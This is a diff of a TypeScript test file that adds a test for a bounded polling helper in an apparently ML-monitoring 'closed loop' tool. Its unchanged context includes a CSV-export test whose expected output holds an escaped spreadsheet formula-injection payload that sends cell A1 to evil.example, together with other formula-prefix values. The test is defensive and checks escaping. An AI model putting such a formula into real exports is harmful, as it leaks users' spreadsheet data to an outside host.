@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { answerText, feedbackSummary, labelsTemplate, liveFigure, psiLevel, type ServedRequest } from "./loop";
+import { answerText, AWAIT_TRIES, feedbackSummary, labelsTemplate, liveFigure, psiLevel, stillAwaited, type ServedRequest } from "./loop";
 
 describe("closed loop helpers", () => {
   it("reads a PSI by the usual thresholds", () => {
@@ -44,5 +44,12 @@ describe("served requests", () => {
     const csv = labelsTemplate(ids.map((request_id) => ({ ...one, request_id })));
     expect(csv).toBe('request_id,row,label\n"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",0,\n\'+1,0,\n\'-2,0,\n' +
                      "'@SUM(1),0,\n'\tx,0,\n");
+  });
+  it("waits for a request Try it just served until the prediction log holds it, a bounded number of asks", () => {
+    expect(stillAwaited(null, "req-9", 0)).toBe(true);
+    expect(stillAwaited([one], "req-9", 3)).toBe(true); // the log not written yet
+    expect(stillAwaited([one], "req-1", 3)).toBe(false); // there: back to the slow poll
+    expect(stillAwaited([one], "req-9", AWAIT_TRIES)).toBe(false); // never logged (a log share below 100%)
+    expect(stillAwaited([one], null, 0)).toBe(false);
   });
 });
